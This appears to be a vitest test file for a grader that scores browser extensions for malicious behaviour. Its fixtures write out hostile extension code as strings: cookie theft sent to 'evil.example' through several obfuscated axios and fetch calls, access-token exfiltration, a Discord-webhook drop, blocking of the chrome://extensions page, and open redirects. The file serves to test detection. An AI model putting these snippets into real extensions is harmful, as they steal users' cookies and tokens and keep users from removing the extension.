import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What is let be where it is honest, and programs that would hide behind it. */
const ASKED = (asks: string): string =>
  `chrome.tabs.onUpdated.addListener(async () => { const all = await chrome.cookies.getAll({}); const t = JSON.stringify(all) + '/x'; ${asks} });`;
const SHOWN = (how: string, before = ''): string =>
  `${before} setInterval(() => chrome.tabs.query({ url: 'chrome://extensions/*' }, ([t]) => { if (t) chrome.tabs.update(t.id, ${how}); }), 300);`;

it.each([
  ["axios({ baseURL: 'https://evil.example/', url: t });"],
  ["axios.get(t, { baseURL: 'https://evil.example/' });"],
  ["axios.defaults.baseURL = 'https://evil.example/'; axios.get(t);"],
  ["ky.create({ prefixUrl: 'https://evil.example/' }).get(t);"],
  ["fetch(t.padStart(8000, 'https://evil.example/?'));"],
  ["fetch(t.replace(/^/, () => 'https://evil.example/'));"],
  ["fetch(String.raw({ raw: ['https://evil.example/', ''] }, t));"],
])('data at the beginning of an address is told where something else comes before it: %s', async (asks) => {
  expect(await graded({ background: ASKED(asks) })).toBe('F');
});

it.each([
  [SHOWN('{ active: false }')],
  [SHOWN('how', "const how = { active: true }; how.url = 'about:blank';")],
  [SHOWN('how', 'const how = { active: true }; Object.assign(how, JSON.parse(self.text));')],
])('the page of extensions is left alone only by who shows a tab: %s', async (background) => {
  expect(await graded({ background })).not.toMatch(/^A/);
  expect(await graded({ background: SHOWN('{ active: true }') })).toMatch(/^A/);
});

it('letters of a host in other words do not show it', async () => {
  const background = (known: string): string =>
    `const known = '${known}'; fetch(atob('aHR0cHM6Ly9hYmMucGFnZXMuZGV2Lw=='));`;
  expect(await graded({ background: background('https://pages.dev/help abcdefghijklmnopqrstuvwxyz') })).not.toMatch(
    /^A/,
  );
  expect(await graded({ background: background('https://abc.pages.dev/') })).toMatch(/^A/);
});

const WARNS = (
  does: string,
  page = '<button id="b"></button>',
): { background: string; files: Record<string, string> } => ({
  background:
    "chrome.tabs.onUpdated.addListener(async (id, info, tab) => { const r = await (await fetch('https://list.example/bad.json')).json(); chrome.tabs.update(id, { url: chrome.runtime.getURL('warn.html') + '?safe=' + r.safe + '&go=' + tab.url }); });",
  files: { 'warn.html': `${page}<script src="warn.js"></script>`, 'warn.js': does },
});

it.each([
  ["location.href = new URLSearchParams(location.search).get('safe');"],
  ['location.replace(decodeURIComponent(location.search.slice(6)));'],
  ["chrome.tabs.getCurrent((t) => chrome.tabs.update(t.id, { url: location.hash.slice(1).split('|')[0] }));"],
  [
    "const f = document.createElement('iframe'); f.src = new URLSearchParams(location.search).get('safe'); document.body.append(f);",
  ],
])('a page of its own that leads on by its address is no place to stay: %s', async (does) => {
  expect(await graded(WARNS(does))).toBe('D');
  expect(await graded(WARNS(`document.getElementById('b').addEventListener('click', () => { ${does} });`))).toMatch(
    /^A/,
  );
});

it.each([
  ['chrome.runtime.onMessage.addListener((m, s) => chrome.tabs.update(s.tab.id, { url: m.to }));'],
  [
    "chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url.includes('warn.html')) chrome.tabs.update(id, { url: new URL(tab.url).searchParams.get('safe') }); });",
  ],
])('nor is one whose address something else of the extension leads on by: %s', async (leads) => {
  const { background, files } = WARNS(
    "chrome.runtime.sendMessage({ to: new URLSearchParams(location.search).get('safe') });",
  );
  expect(await graded({ background: background + leads, files })).toBe('D');
  expect(await graded({ background, files })).toMatch(/^A/);
});

it.each([
  ["const t = location.hash.match(/access_token=(\\w+)/); if (t) fetch('https://evil.example/' + t[1]);"],
  ["fetch('/').then((r) => r.text()).then((p) => fetch('https://evil.example/' + p.match(/access_token=(\\w+)/)[1]));"],
])('a token in an address is told where it is sent: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^[DF]/);
});

it('leads a page elsewhere by a call as by a write', async () => {
  const content = (how: string): string =>
    `fetch('https://x.example/go').then((r) => r.text()).then((t) => { ${how}; });`;
  expect(await graded({ content: content('location.replace(t)') })).toBe('D');
  expect(await graded({ content: content('window.location.assign(t)') })).toBe('D');
  expect(await graded({ content: content("location.replace('https://x.example/' + t)") })).toMatch(/^A/);
});

it('takes the example of a chat hook for none, and the one that is made of it for what it is', async () => {
  const hook = "'https://discord.com/api/webhooks/YOUR_ID/YOUR_TOKEN'";
  expect(await graded({ popup: `document.getElementById('b').title = ${hook};` })).toMatch(/^A/);
  const asks = `fetch(${hook}.replace('YOUR_ID', '1234567890').replace('YOUR_TOKEN', self.name), { method: 'POST', body: t });`;
  expect(await graded({ background: ASKED(asks) })).toBe('F');
});
